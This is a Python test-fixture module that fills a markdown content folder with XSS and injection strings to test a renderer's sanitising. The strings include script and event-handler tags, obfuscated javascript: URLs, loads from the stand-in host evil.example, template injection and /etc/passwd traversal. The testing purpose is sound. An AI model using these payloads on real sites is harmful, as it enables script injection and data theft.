"""Texts that try to act on a page, and an organisation that holds them wherever a text may stand."""

# ruff: noqa: E501 - a text a line

from __future__ import annotations

import json
import re
from collections import Counter
from collections.abc import Iterator, Sequence
from itertools import cycle
from typing import Any

from case import Case

from generator.record import FOLDERS, TYPES, Record
from generator.schema import (
    AnyRef,
    Block,
    Day,
    Flag,
    Id,
    Key,
    Kind,
    Level,
    Many,
    MilestoneReport,
    Number,
    Party,
    Pick,
    Raw,
    Ref,
    Rhythm,
    Scale,
    Table,
    Target,
    Text,
    Whole,
    keys_of,
)

MARKDOWN_IT = (
    "[xss link](javascript:alert(1))",
    "[xss link](JAVASCRIPT:alert(1))",
    "[xss link](vbscript:alert(1))",
    "[xss link](VBSCRIPT:alert(1))",
    "[xss link](file:///123)",
    "[xss link](&#34;&#62;&#60;script&#62;alert&#40;&#34;xss&#34;&#41;&#60;/script&#62;)",
    "[xss link](&#74;avascript:alert(1))",
    "[xss link](&#x26;#74;avascript:alert(1))",
    "[xss link](\\&#74;avascript:alert(1))",
    "[xss link](<javascript:alert(1)>)",
    "[xss link](javascript&#x3A;alert(1))",
    "![](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7)",
    "[xss link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)",
    "[normal link](/javascript:link)",
    "[normal link](javascript)",
    "![xss link](javascript:alert(1))",
    "<javascript&#x3A;alert(1)>",
    "<javascript:alert(1)>",
    "javascript&#x3A;alert(1)",
    "[test]: javascript:alert(1)",
    "```js&#32;custom-class\ntest1\n```",
    "```js&#x0C;custom-class\ntest2\n```",
)
"""The inputs of markdown-it's own cases (test/fixtures/markdown-it/xss.txt).

Copyright (c) 2014 Vitaly Puzrin, Alex Kocharin, under the MIT licence.
"""

TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<img src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)\n>",
    "<img src=https://evil.example/x.png>",
    "<img srcset='https://evil.example/x.png 2x'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "</svg><img src=x onerror=alert(1)>",
    "</text></svg><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "＜script＞alert(1)＜/script＞",
    "\u02c2script\u02c3alert(1)\u02c2/script\u02c3",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\<script>alert(1)\\</script>",
)
"""Elements, and ways out of those that a text may stand in."""

ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1)",
    "x\" style=\"background:url('https://evil.example/')",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${alert(1)}",
    "{value}{0}{__class__}%s%(x)s",
    "</script><!--\u2028alert(1)//",
    "\u2028\u2029alert(1)",
    "'-alert(1)-'",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "@import 'https://evil.example/x.css';",
    "url(javascript:alert(1))",
)
"""Ways out of attributes, templates, scripts and style sheets."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#10;script:alert(1)",
    "java&#x09;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script&colon;alert(1)",
    "&#1;javascript:alert(1)",
    "&#x20;javascript:alert(1)",
    "%6Aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "java%0ascript:alert(1)",
    "java%00script:alert(1)",
    "%09javascript:alert(1)",
    "%01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u3000javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "java\u00adscript:alert(1)",
    "java\u0085script:alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "javascript：alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*https://*/alert(1)",
    "x-javascript:alert(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "view-source:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,x",
    "DATA&colon;text/html,x",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "file:///etc/passwd",
    "smb://evil.example/x",
    "ftp://evil.example/x",
    "ws://evil.example/x",
    "intent://x#Intent;end",
    "ms-msdt:/id",
    "tel:1",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\\\\\evil.example\\\\x",
    "\\\\/evil.example/x",
    "/%09/evil.example/x",
    "%2f%2fevil.example/x",
    "%5c%5cevil.example/x",
    "///evil.example/x",
    "https:evil.example/x",
    "https:/evil.example/x",
    "https:\\\\\\\\evil.example/x",
    "http:javascript:alert(1)",
    "../../../../etc/passwd",
    "..%2f..%2fetc/passwd",
    "/etc/passwd",
    "?javascript:alert(1)",
    "#javascript:alert(1)",
    "mailto:a@b.example?body=%0d%0aBcc:x@evil.example",
    "mailto:javascript:alert(1)",
    "https://user:pass@b.example@evil.example/",
    "https://аррӏе.example/",
    "https://b.example/\u202egnp.exe",
    'https://b.example/"onmouseover="alert(1)',
    "https://b.example/'><script>alert(1)</script>",
    "https://b.example/`{}|^",
    "https://b.example/%000%00%001%00",
)
"""Addresses; those that may be links lead to http, https or mail."""

FORMS = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    '[x]({} "t\\"><b>")',
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "![x][q]\n\n[q]: <{}> 'onload=\"alert(1)\"'",
    "[![x]({})](a.pdf)",
    "[a [b]({})]({})",
    "^[x [y]({})]",
    "see {} there",
)
"""How an address may be written."""

SHAPES = (
    "[x](javascript:alert(1)//[y](https://b.example))",
    "[[person:ada|<img src=x onerror=alert(1)>]]",
    "[[<script>alert(1)</script>]]",
    '[["onmouseover="alert(1)|x]]',
    "[[javascript:alert(1)|x]]",
    "[x](javascript:alert(1) 'title')",
    "[ref]: <javascript:alert(1)> 'x'\n\n[ref]",
    '[ref]: https://b.example "x\\" onmouseover=\\"alert(1)"\n\n[ref]',
    '| a | b |\n|---|:--" onload="alert(1)|\n| <script>alert(1)</script> | x |',
    "|<b>|\n|:-:|\n|[x](javascript:alert(1))|",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "- [x] <img src=x onerror=alert(1)>\n- [ ] [x](javascript:alert(1))",
    '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
    '~~~"><script>alert(1)</script>\nx\n~~~',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "<!--\n<script>alert(1)</script>\n\n-->",
    "<!-- --!><script>alert(1)</script>",
    "# <script>alert(1)</script> #",
    "<script>alert(1)</script>\n===",
    "> <script>\n> alert(1)\n> </script>",
    "- <div>\n\n  <script>alert(1)</script>\n\n  </div>",
    "&#0;0&#0;&#0;1&#0;",
    "a\x01b\x07c\x08d\x1be\x7ff\x9bg",
    "\u202e\u2066)1(trela\u2069",
    "![<img src=x onerror=alert(1)>](room.png)",
    "![x](https://evil.example/x.png)",
    '![x](room.png?"onload="alert(1))',
    "[x](plan&quot;&gt;&lt;script&gt;.pdf)",
)
"""Markdown around them."""


def _addresses() -> Iterator[str]:
    """Return each address in two of the forms, so that each form has many."""
    for n, address in enumerate(ADDRESSES):
        for k in (n, n + 4):
            yield FORMS[k % len(FORMS)].replace("{}", address)


EVASIONS: tuple[str, ...] = (*MARKDOWN_IT, *TAGS, *ATTRIBUTES, *_addresses(), *SHAPES)
"""All of them."""
FEWER: tuple[str, ...] = (*MARKDOWN_IT, *EVASIONS[len(MARKDOWN_IT) :: 2])
"""Every other one, for a run that is short; what markdown-it tries is whole."""

AROUND = (
    "{}",
    "- {}",
    "> {}",
    "## {}",
    "| a |\n|---|\n| {} |",
    "**{}**",
    "[{}](https://b.example)",
    "[[base|{}]]",
    "![{}](room.png)",
)
"""What a text of a body may stand in."""

_REFUSED = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028\u2029\u202a-\u202e\u2060-\u2069\ufeff\ufff9-\uffff\U000e0000-\U000e007f]"
)
"""Characters that no header may hold; they are tried in bodies alone."""


_PLAIN: dict[type[Kind], object] = {
    Number: 3,
    Flag: True,
    Level: 3,
    Rhythm: "weekly",
    Scale: "1-5",
    MilestoneReport: 40,
    Day: "2026-03-02",
}


class Writer:
    """Fills every key of every type with texts, as the schema says what may stand there."""

    def __init__(self, texts: Sequence[str]) -> None:
        self._parts = [" ".join(texts[n::4]) for n in range(4)]
        self._short = cycle(texts)
        self.used: Counter[str] = Counter()
        """How often each key held a text: `type.key`, within blocks `type.key.key`. Four hold them all."""
        self._ids = 0

    def text(self, name: str) -> str:
        self.used[name] += 1
        return _REFUSED.sub(" ", self._parts[self.used[name] % 4])

    def header(self, of: type[Record], **given: object) -> str:
        """Return a header with every key of a type that may hold a text."""
        values = {
            word: self.value(key.kind, f"{of.type}.{word}")
            for word, (_, key) in keys_of(of).items()
            if word not in {"visibility", "status", "parent", "depends_on", "continues", "left"}
        }
        values |= {"x-own": self.text("x-")} | given
        return "---\n" + "".join(f"{k}: {_flow(v)}\n" for k, v in values.items() if v is not None) + "---\n"

    def value(self, kind: Kind, name: str) -> Any:
        """Return something of a kind: a text wherever one may stand."""
        match kind:
            case Text() | Raw():
                return self.text(name)
            case Party():
                return {"outside": self.text(name)}
            case Many(item=item):
                return [found for _ in range(2) if (found := self.value(item, name)) is not None]
            case Table(item=item) if not name.endswith("thresholds"):
                return {_REFUSED.sub(" ", next(self._short)): self.value(item, f"{name}.*")}
            case Block(of=of):
                return {
                    word: found
                    for word, (_, key) in keys_of(of).items()
                    if (found := self._inner(key, f"{name}.{word}")) is not None
                }
        return self._plain(kind)

    def _plain(self, kind: Kind) -> object:
        match kind:
            case Ref(to=to):
                return {Target.PERSON: "ada", Target.TEAM: "web", Target.CYCLE: "q1"}.get(to, "base")
            case AnyRef(to=to):
                return f"{to[0]}:base.c"
            case Pick(choices=choices):
                return next(iter(choices)).value
            case Id():
                self._ids += 1
                return f"i{self._ids}"
            case Whole(low=low, high=high):
                return min(max(low, 3), high)
        return _PLAIN.get(type(kind))

    def _inner(self, key: Key, name: str) -> Any:
        if name.endswith("changes.field"):
            return "goal"
        return None if name.endswith(".done") else self.value(key.kind, name)


def _flow(value: object) -> str:
    return json.dumps(value, ensure_ascii=False)


def body(texts: Sequence[str], turn: int) -> str:
    """Return texts, each in its surroundings; another turn puts them elsewhere."""
    out = []
    for n, text in enumerate(texts):
        around = AROUND[(n + turn) % len(AROUND)]
        out.append(
            around.replace("{}", text if around in {"{}", "- {}", "> {}"} else text.replace("\n", " "))
        )
    return "\n\n".join(out) + "\n"


def organisation(texts: Sequence[str] = EVASIONS, parts: int = 4) -> tuple[Case, Writer]:
    """Return a content folder whose records hold the texts in every field, ``parts`` records of each type."""
    case = Case()
    writer = Writer(texts)
    title = _flow(_REFUSED.sub(" ", " ".join(texts[:40])))
    ratings = _flow([_REFUSED.sub(" ", t).replace("\n", " ") for t in texts[40:43]])
    case.write(
        "remit.toml", f'title = {title}\nurl = "https://remit.example/\'%22><script>"\nratings = {ratings}\n'
    )
    case.write("people/ada.md", f"---\ntitle: {_flow(writer.text('person.title'))}\nteam: web\n---\n")
    case.write("teams/web.md", f"---\ntitle: {_flow(writer.text('team.title'))}\nlead: ada\n---\n")
    case.write("cycles/q1.md", "---\nstart: 2026-01-01\nend: 2026-03-31\n---\n")
    case.write("people/ben.md", "---\ntitle: Ben\n---\n")
    base = {"delegator": "ben", "owner": "ada", "start": "2026-01-05", "due": "2026-03-27"}
    for turn, of in enumerate(TYPES):
        for part in range(parts):
            name = "base" if of.type is Target.DELEGATION and part == 0 else f"{of.type}{part}"
            given = dict(base) if of.type is Target.DELEGATION else {}
            header = writer.header(of, **given)
            case.write(f"{FOLDER[of]}/{name}.md", header + "\n" + body(texts[part::parts], turn))
    # What is wrong is shown as well: a record of which no value can be taken.
    wrong = "".join(
        f"{word}: {_flow(writer.text('wrong'))}\n"
        for word in ("date", "author", "health", "progress", "milestones")
    )
    case.write("checkins/base/wrong.md", f"---\n{wrong}{_flow(texts[0])}: 1\n---\n")
    case.write("delegations/room.png", b"\x89PNG\r\n\x1a\n")
    case.write('delegations/a" onerror="alert(1).png', b"\x89PNG\r\n\x1a\n")
    case.write("delegations/<script>alert(1)<", b"x")
    case.write(
        "delegations/odd.md",
        '---\ntitle: Odd\ndelegator: ben\nowner: ada\n---\n![x](<a" onerror="alert(1).png>) [x](a%22%20onerror=%22alert(1).png)\n',
    )
    return case, writer


FOLDER = {of: folder for folder, of in FOLDERS.items()}
